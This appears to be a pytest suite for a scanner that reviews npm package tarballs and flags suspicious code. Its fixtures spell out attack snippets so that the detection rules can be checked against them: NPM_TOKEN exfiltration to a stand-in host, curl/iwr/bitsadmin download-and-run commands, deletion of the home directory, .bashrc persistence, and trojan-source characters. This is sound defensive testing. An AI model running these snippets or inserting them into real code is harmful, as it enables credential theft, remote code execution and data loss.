"""Each file rule on small built tarball pairs: it fires on the code it is about (at the right
line, as new), stays quiet on the near misses (comments, strings, benign uses), and reads the
same code in the baseline as existing."""

from __future__ import annotations

import base64
import hashlib
import json
from dataclasses import dataclass
from typing import Any

import pytest

from reviews.inspect.rules import RULES, ScanLimits, Severity, Status
from tests.inspect.builders import make_tarball
from tests.inspect.rules_support import describe, of, scan, scan_tarballs, with_manifest

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200)
RANDOM_B64 = base64.b64encode(b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(60)))
OBFUSCATED_NAMES = "var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4,_0x5e6f=5;\n"
ESCAPED = "\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63"


@dataclass(frozen=True)
class Case:
    rule: str
    path: str
    fires: str | bytes
    line: int | None
    quiet: str | bytes
    severity: Severity

    def __str__(self) -> str:
        return f"{self.rule}@{self.path}"


CASES = [
    Case(
        "code.child-process",
        "lib/run.js",
        "const x = 1\nconst cp = require('child_process')\ncp.execSync('ls')\n",
        2,
        "// require('child_process')\nconst s = \"require('child_process')\"\n",
        Severity.HIGH,
    ),
    Case(
        "code.child-process",
        "lib/esm.mjs",
        "import { spawn as run } from 'node:child_process'\n\nrun('ls')\n",
        1,
        "import { spawn } from './child_process.js'\n",
        Severity.HIGH,
    ),
    Case(
        "code.network",
        "lib/net.js",
        "'use strict'\nconst https = require('node:https')\n",
        2,
        "const url = 'https://example.com'\nconst name = 'https'\n",
        Severity.MEDIUM,
    ),
    Case(
        "code.network",
        "lib/fetch.ts",
        "export async function f(): Promise<unknown> {\n  return fetch('/x')\n}\n",
        2,
        "const fetch = 2\nobj.fetch = fetch\n",
        Severity.MEDIUM,
    ),
    Case(
        "code.env-all",
        "lib/env.js",
        "const all = JSON.stringify(process.env)\n",
        1,
        "spawn('x', [], { env: { ...process.env, A: '1' } })\n",
        Severity.HIGH,
    ),
    Case(
        "code.env-token",
        "lib/token.js",
        "\nconst t = process.env.GITHUB_TOKEN\n",
        2,
        "const mode = process.env.NODE_ENV\n",
        Severity.MEDIUM,
    ),
    Case(
        "code.credential-file",
        "lib/cred.js",
        "const p = path.join(os.homedir(), '.npmrc')\n",
        1,
        "// see .npmrc docs\n",
        Severity.HIGH,
    ),
    Case(
        "code.home-path",
        "lib/home.js",
        "const p = path.join(os.homedir(), 'config')\n",
        1,
        "const h = os.homedir()\n",
        Severity.LOW,
    ),
    Case(
        "code.dynamic-code",
        "lib/eval.js",
        "const a = 1\n\neval(code)\n",
        3,
        "const evaluate = 1\nobj.evaluate()\n// eval(x)\nconst s = 'eval(x)'\n",
        Severity.HIGH,
    ),
    Case(
        "code.dynamic-code",
        "lib/fn.js",
        "const f = new Function('a', 'return a')\n",
        1,
        "if (x instanceof Function) {}\nFunction.prototype.call.bind(f)\n",
        Severity.HIGH,
    ),
    Case(
        "code.computed-require",
        "lib/req.js",
        "const m = require(name)\n",
        1,
        "const m = require(`lodash`)\nconst n = require( 'x' )\n",
        Severity.MEDIUM,
    ),
    Case(
        "code.persistence",
        "lib/persist.js",
        "fs.appendFileSync(os.homedir() + '/.bashrc', line)\n",
        1,
        "// writes nothing to .bashrc\n",
        Severity.HIGH,
    ),
    Case(
        "code.destructive",
        "lib/wipe.js",
        "fs.rmSync(os.homedir(), { recursive: true, force: true })\n",
        1,
        "fs.rmSync(tmpFile)\nfs.rmSync(dir, { recursive: false })\n",
        Severity.HIGH,
    ),
    Case(
        "code.exfiltration",
        "lib/exfil.js",
        "const t = process.env.NPM_TOKEN\nfetch('https://x.example/?' + t)\n",
        2,
        "const t = process.env.NPM_TOKEN\nconsole.log(t)\n",
        Severity.CRITICAL,
    ),
    Case(
        "code.download-and-run",
        "lib/dl.js",
        "exec('curl -s https://x.example/a.sh | sh')\n",
        1,
        "const doc = 'use curl to download things'\n",
        Severity.HIGH,
    ),
    Case(
        "code.download-and-run",
        "install.sh",
        "#!/bin/sh\ncurl -sL https://x.example/m | bash\n",
        2,
        "#!/bin/sh\n# curl -sL https://x.example/m | bash\n",
        Severity.HIGH,
    ),
    Case(
        "code.hardcoded-ip",
        "lib/ip.js",
        "const net = require('net')\nnet.connect(4444, '93.184.216.34')\n",
        2,
        "const net = require('net')\nnet.connect(4444, '127.0.0.1')\n",
        Severity.MEDIUM,
    ),
    Case(
        "code.hardcoded-url",
        "lib/url.js",
        "fetch('https://a.example/x')\n",
        1,
        "// https://a.example/x\nfetch(url)\n",
        Severity.INFO,
    ),
    Case(
        "obfuscation.hex-identifiers",
        "lib/obf.js",
        OBFUSCATED_NAMES,
        1,
        "var _0x1a2b=1,_0x2b3c=2,_0x3c4d=3,_0x4d5e=4;\n// _0xaaaa _0xbbbb\n",
        Severity.HIGH,
    ),
    Case(
        "obfuscation.escaped-strings",
        "lib/esc.js",
        f"const a = 1\nvar t = ['{ESCAPED}', '{ESCAPED}1', '{ESCAPED}2']\n",
        2,
        "var t = ['\\x41 hello world', 'plain']\n",
        Severity.HIGH,
    ),
    Case(
        "obfuscation.encoded-literal",
        "lib/blob.js",
        f"module.exports = '{RANDOM_B64.decode()}'\n",
        1,
        "module.exports = '" + "a" * 1200 + "'\n",
        Severity.HIGH,
    ),
    Case(
        "obfuscation.encoded-literal",
        "data/payload.txt",
        RANDOM_B64.decode() + "\n",
        1,
        "plain text\n" * 20,
        Severity.HIGH,
    ),
    Case(
        "content.trojan-source",
        "lib/bidi.js",
        "const a = 1 /* \u202e } */\n",
        1,
        "const café = 'naïve'\n",
        Severity.HIGH,
    ),
    Case(
        "content.secret",
        "lib/config.js",
        "const a = 1\nconst t = 'npm_" + "Ab3" * 12 + "'\n",
        2,
        "const k = 'AKIAIOSFODNN7EXAMPLE'\n",
        Severity.HIGH,
    ),
    Case("content.secret-file", ".env", "A=1\n", None, "A=1\n", Severity.HIGH),
    Case("content.native-binary", "bin/helper", ELF, None, PNG, Severity.HIGH),
    Case("content.native-binary", "lib/addon.node", b"\0" * 64, None, PNG, Severity.HIGH),
]


def quiet_path(case: Case) -> str:
    """Where the near miss goes: a harmless name for the rules that judge names."""
    return {"content.secret-file": ".env.example", "content.native-binary": "img/logo.png"}.get(
        case.rule, case.path
    )


def touched(content: str | bytes) -> str | bytes:
    """The same content with one harmless change, so the file counts as changed."""
    if isinstance(content, bytes):
        return content + b"\0"
    suffix = "\n# touched\n" if content.startswith("#!") else "\n// touched\n"
    return content + suffix


@pytest.mark.parametrize("case", CASES, ids=str)
def test_rule_fires_on_new_code_at_its_line(case: Case):
    findings = scan({"index.js": "module.exports = 1\n"}, {case.path: case.fires})

    found = of(findings, case.rule)
    assert found, describe(findings)
    first = min(found, key=lambda f: f.line or 0)
    assert first.path == case.path
    assert first.line == case.line
    assert first.status is Status.NEW
    assert max(f.severity.rank for f in found) == case.severity.rank


@pytest.mark.parametrize("case", CASES, ids=str)
def test_rule_is_quiet_on_near_misses(case: Case):
    findings = scan({"index.js": "module.exports = 1\n"}, {quiet_path(case): case.quiet})

    assert not of(findings, case.rule), describe(findings)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_same_code_in_the_baseline_is_existing(case: Case):
    findings = scan({case.path: case.fires}, {case.path: touched(case.fires)})

    found = of(findings, case.rule)
    assert found, describe(findings)
    if case.rule == "content.native-binary":  # the bytes changed: the binary changed
        assert {f.status for f in found} == {Status.CHANGED}
    else:
        assert {f.status for f in found} == {Status.EXISTING}, describe(found)


def test_the_same_rule_on_other_code_is_changed():
    before = "const cp = require('child_process')\ncp.execSync('ls')\n"
    after = "const cp = require('child_process')\ncp.execSync('rm -rf build')\n"

    findings = of(scan({"run.js": before}, {"run.js": after}), "code.child-process")

    statuses = {f.line: f.status for f in findings}
    assert statuses == {1: Status.EXISTING, 2: Status.CHANGED}


def test_a_url_status_comes_from_the_baseline_text_without_parsing_it(monkeypatch):
    """URLs are info: the baseline is searched for the address, not parsed, when they are all
    a file's parsed findings (bundles hold hundreds)."""
    from reviews.inspect.rules import syntax

    parses: list[bytes] = []
    parse_tree = syntax.parse_tree

    def counted(language, data, previous=None):
        parses.append(data)
        return parse_tree(language, data, previous)

    monkeypatch.setattr(syntax, "parse_tree", counted)
    before = "// https://kept.example/a\nconst b = 'https:\\/\\/escaped.example/b'\n"
    after = (
        "fetch('https://kept.example/a')\nfetch('https://escaped.example/b')\n"
        "fetch('https://new.example/c')\n"
    )

    findings = of(scan({"lib/u.js": before}, {"lib/u.js": after}), "code.hardcoded-url")

    statuses = {f.key: f.status for f in findings}
    assert statuses == {
        "https://kept.example/a": Status.EXISTING,
        "https://escaped.example/b": Status.CHANGED,
        "https://new.example/c": Status.CHANGED,
    }
    assert parses == [after.encode()]  # the staged side alone


def test_a_file_with_urls_and_code_findings_still_parses_its_baseline():
    before = "/*\nrequire('child_process').execSync(x)\n*/ fetch('https://a.example/x')\n"
    after = "\nrequire('child_process').execSync(x)\n   fetch('https://a.example/x')\n"

    findings = scan({"run.js": before}, {"run.js": after})

    assert {f.status for f in of(findings, "code.child-process")} == {Status.NEW}
    assert {f.status for f in of(findings, "code.hardcoded-url")} == {Status.EXISTING}


def test_urls_alone_in_a_baseline_without_them_are_new():
    findings = scan({"lib/u.js": "x()\n"}, {"lib/u.js": "fetch('https://n.example/c')\n"})

    assert {f.status for f in of(findings, "code.hardcoded-url")} == {Status.NEW}


def test_a_commented_out_call_that_becomes_code_is_new():
    """The comment trick: the line is unchanged, but now it runs."""
    before = "/*\nconst cp = require('child_process')\ncp.execSync(x)\n*/\n"
    after = "\nconst cp = require('child_process')\ncp.execSync(x)\n\n"

    findings = of(scan({"run.js": before}, {"run.js": after}), "code.child-process")

    assert {f.status for f in findings} == {Status.NEW}
    assert len(findings) == 2


def test_a_first_release_has_only_new_findings():
    findings = scan(None, {"run.js": "require('child_process').exec(x)\n", ".env": "A=1\n"})

    assert findings
    assert {f.status for f in findings} == {Status.NEW}


def test_unchanged_files_are_not_scanned():
    code = "require('child_process').exec(x)\n"

    findings = scan({"run.js": code, "a.js": "1\n"}, {"run.js": code, "a.js": "2\n"})

    assert not of(findings, "code.child-process")


def test_every_rule_in_the_catalogue_has_a_dotted_id_and_a_summary():
    for rule_id, info in RULES.items():
        assert rule_id == info.id
        assert "." in rule_id, rule_id
        assert rule_id == rule_id.lower(), rule_id
        assert info.summary.endswith("."), rule_id


def test_a_secret_is_never_stored_whole():
    secret = "npm_" + "Ab3" * 12
    findings = of(scan(None, {"c.js": f"const t = '{secret}'\n"}), "content.secret")

    stored = json.dumps([f.to_data() for f in findings])
    assert findings
    assert secret not in stored
    assert "npm_" in stored


def test_hidden_characters_never_reach_the_excerpt():
    findings = of(scan(None, {"b.js": "x /* \u202e \u2066 */\n"}), "content.trojan-source")

    assert findings
    assert "\u202e" not in findings[0].excerpt
    assert "[U+202E]" in findings[0].excerpt


def test_a_readable_file_that_becomes_one_long_line():
    readable = "".join(f"const a{i} = {i}\n" for i in range(50))
    minified = ";".join(f"var a{i}={i}" for i in range(800)) + "\n"

    fires = of(scan({"lib/a.js": readable}, {"lib/a.js": minified}), "obfuscation.became-minified")
    already = of(
        scan({"lib/a.js": minified}, {"lib/a.js": minified + "var b=1\n"}),
        "obfuscation.became-minified",
    )

    assert [(f.where, f.severity, f.status) for f in fires] == [
        ("lib/a.js:1", Severity.HIGH, Status.NEW)
    ]
    assert already == []


def test_new_minified_code_outside_build_folders():
    minified = ";".join(f"var a{i}={i}" for i in range(800)) + "\n"

    outside = scan({}, {"lib/x.js": minified})
    inside = scan({}, {"dist/x.js": minified, "lib/y.min.js": minified})

    assert [f.where for f in of(outside, "obfuscation.minified-outside-build")] == ["lib/x.js:1"]
    assert of(inside, "obfuscation.minified-outside-build") == []


def test_new_executable_bits():
    fires = scan({}, {"run.sh": "echo hi\n"}, modes={"run.sh": 0o755})
    quiet = scan({}, {"run.sh": "echo hi\n"}, modes={"run.sh": 0o644})

    assert [f.severity for f in of(fires, "content.executable-bit")] == [Severity.MEDIUM]
    assert of(quiet, "content.executable-bit") == []


def test_walking_directories_and_writing_what_it_finds():
    code = (
        "const https = require('https')\n"
        "for (const f of fs.readdirSync(dir)) {\n"
        "  fs.writeFileSync(path.join(dir, f), 'x')\n"
        "}\n"
    )
    quiet = "for (const f of fs.readdirSync(dir)) {\n  fs.writeFileSync('out.txt', f)\n}\n"

    fires = of(scan({}, {"w.js": code}), "code.destructive")

    assert [(f.where, f.severity) for f in fires] == [("w.js:3", Severity.HIGH)]
    assert of(scan({}, {"w.js": quiet}), "code.destructive") == []


def test_a_file_over_the_parse_limit_is_listed_not_skipped_silently():
    code = "require('child_process').exec(x)\n" + "// padding\n" * 200

    findings = scan({}, {"big.js": code}, limits=ScanLimits(max_parse_bytes=1000))

    assert of(findings, "code.child-process") == []
    [skipped] = of(findings, "scan.not-scanned")
    assert skipped.path == "big.js"
    assert "parse limit" in skipped.title


def test_the_time_budget_leaves_a_visible_finding():
    ticks = iter(range(1000))
    files = {f"f{i}.js": "require('child_process').exec(x)\n" for i in range(3)}
    new = make_tarball(with_manifest(files, "1.1.0"))
    old = make_tarball(with_manifest({}, "1.0.0"))

    result = scan_tarballs(old, new, ScanLimits(time_budget=1.5), clock=lambda: next(ticks))

    skipped = of(result.findings, "scan.not-scanned")
    assert [f.path for f in skipped] == ["f1.js", "f2.js", "package.json"]
    assert all("time budget" in f.title for f in skipped)
    assert [f.path for f in of(result.findings, "code.child-process")][:1] == ["f0.js"]


def test_the_incremental_parse_of_the_baseline_equals_a_fresh_parse():
    """Statuses compare with a baseline tree made by editing the staged one: it must be the
    tree a parse from scratch gives, whatever the edits (comments opened, lines removed)."""
    from reviews.inspect.rules import syntax

    lines = [
        f"const a{i} = f({i}, 'x')\n" if i % 7 else f"/* c{i}\n */ x{i}()\n" for i in range(80)
    ]
    staged = "".join(lines).encode()
    edits = [
        lambda ls: [*ls[:10], "/*\n", *ls[10:]],
        lambda ls: [*ls[:5], *ls[6:40], "`\n", *ls[40:]],
        lambda ls: [line.replace("f(", "eval(") for line in ls],
        lambda ls: ls[:-1],
        lambda ls: [*ls, "tail()"],
    ]
    language = syntax.language_for("x.js", staged)
    assert language is not None
    for edit in edits:
        baseline = "".join(edit(list(lines))).encode()
        tree = syntax.parse_tree(language, staged)

        incremental = syntax.reparse(language, tree, staged, baseline)

        assert every_node(incremental) == every_node(syntax.parse_tree(language, baseline))


def every_node(tree: Any) -> list[tuple[str, int, int, Any, Any]]:
    """Each node's type and place, bytes and (row, column), in document order."""
    found = []
    cursor = tree.walk()
    while True:
        node = cursor.node
        found.append((node.type, node.start_byte, node.end_byte, node.start_point, node.end_point))
        if cursor.goto_first_child():
            continue
        while not cursor.goto_next_sibling():
            if not cursor.goto_parent():
                return found


def test_a_baseline_rewritten_line_by_line_is_parsed_afresh_to_the_same_tree():
    from reviews.inspect.rules import syntax

    staged = "".join(f"const a{i} = f({i})\n" for i in range(3000)).encode()
    baseline = "".join(f"let b{i} = g({i}) // {i}\n" for i in range(3000)).encode()
    language = syntax.language_for("x.js", staged)
    assert language is not None

    incremental = syntax.reparse(language, syntax.parse_tree(language, staged), staged, baseline)

    assert every_node(incremental) == every_node(syntax.parse_tree(language, baseline))


def test_the_incremental_parse_of_a_minified_baseline_equals_a_fresh_parse():
    """One long line: each hunk is the whole line, narrowed to the bytes that differ."""
    import random

    from reviews.inspect.rules import syntax

    rng = random.Random(5)
    parts = ["var a=f(1);", "function g(b){return b+1}", "/*x*/", "'s;'", "`t${a}`", "if(a){g(a)}"]
    language = syntax.language_for("x.min.js", b"")
    assert language is not None
    for _ in range(60):
        pieces = [rng.choice(parts) for _ in range(rng.randrange(1, 40))]
        staged = "".join(pieces).encode()
        changed = list(pieces)
        for _ in range(rng.randrange(1, 4)):
            at = rng.randrange(0, len(changed) + 1)
            changed[at : at + rng.randrange(0, 2)] = [rng.choice([*parts, "/*", "`", "'"])]
        baseline = "".join(changed).encode() + rng.choice([b"", b"\n", b"\ng(2)"])
        tree = syntax.parse_tree(language, staged)

        incremental = syntax.reparse(language, tree, staged, baseline)

        assert every_node(incremental) == every_node(syntax.parse_tree(language, baseline))


def test_an_edit_is_narrowed_to_the_bytes_that_differ():
    from reviews.inspect.rules.syntax import _narrowed

    line = b"var a=f(1);" * 1000
    assert _narrowed(line, 0, len(line), line[:5000] + b"X" + line[5001:]) == (5000, 5001, b"X")
    assert _narrowed(b"abcabc", 0, 6, b"abc") == (3, 6, b"")
    assert _narrowed(b"abc", 0, 3, b"abcabc") == (3, 3, b"abc")
    assert _narrowed(b"xaby", 1, 3, b"ab") == (3, 3, b"")
    assert _narrowed(b"abc", 0, 3, b"xyz") == (0, 3, b"xyz")


def test_a_hunks_bytes_come_from_libgit2s_line_offsets():
    import pygit2

    from reviews.inspect.rules.syntax import _FORCE_TEXT, _hunk_spans, _points

    old = b"one\ntwo\nthree\nfour"
    new = b"zero\none\nTWO\nthree\nfour\nfive"
    patch = pygit2.Patch.create_from(old, new, context_lines=0, flag=_FORCE_TEXT)

    spans = list(_hunk_spans(patch))

    # an inserted line (nothing on the old side), a changed one, a last line without newline
    assert spans == [(0, 0, 0, 5), (4, 8, 9, 13), (14, 18, 19, 28)]
    rebuilt = old
    for start, end, new_start, new_end in reversed(spans):
        rebuilt = rebuilt[:start] + new[new_start:new_end] + rebuilt[end:]
    assert rebuilt == new
    assert _points(old, [0, 4, 6, 18]) == {0: (0, 0), 4: (1, 0), 6: (1, 2), 18: (3, 4)}


def test_an_or_before_a_name_is_not_a_pipe_into_a_shell():
    """`a || shouldUpdate` and `mask | shallow` in react-dom made its 1 MB bundle parsed."""
    from reviews.inspect.rules.prefilter import find_anchors

    assert not find_anchors(b"if (a || shouldUpdate(b)) c = mask | shallow\n").wants_parse
    assert not find_anchors(b"x = a|bashful\n").wants_parse
    for piped in (b"x('a | sh')", b"x('a |sh')", b"x('a | bash')", b"x('a |bash -s')"):
        assert find_anchors(piped).wants_parse, piped


def test_a_download_piped_into_a_shell_is_found_beside_an_or():
    findings = scan({}, {"i.js": "if (a || shown) x('curl -s https://e.example/i | sh')\n"})

    assert [f.severity for f in of(findings, "code.download-and-run")] == [Severity.HIGH]


@pytest.mark.parametrize(
    "command",
    [
        "iwr https://e.example/a.ps1 | iex",
        "bitsadmin /transfer j https://e.example/a.exe %TEMP%\\\\a.exe && %TEMP%\\\\a.exe",
        "Start-BitsTransfer https://e.example/a.exe a.exe; ./a.exe",
        "CURL -s https://e.example/a.ps1 | iex",
        "Wget https://e.example/a.exe -O a.exe; start /b a.exe",
    ],
)
def test_every_download_tool_the_rule_knows_is_looked_for(command: str):
    """The tools `download_and_run` names are anchors too: a file holding no other one is
    still parsed and its command found."""
    findings = scan({}, {"lib/i.js": f"require('x').run({json.dumps(command)})\n"})

    assert [f.severity for f in of(findings, "code.download-and-run")] == [Severity.HIGH]


def test_plain_environment_reads_do_not_make_a_file_parsed():
    from reviews.inspect.rules.prefilter import find_anchors

    assert not find_anchors(b"if (process.env.NODE_ENV === 'production') x()\n").wants_parse
    assert find_anchors(b"const t = process.env.NPM_TOKEN\n").wants_parse
    assert find_anchors(b"send(process.env)\n").wants_parse
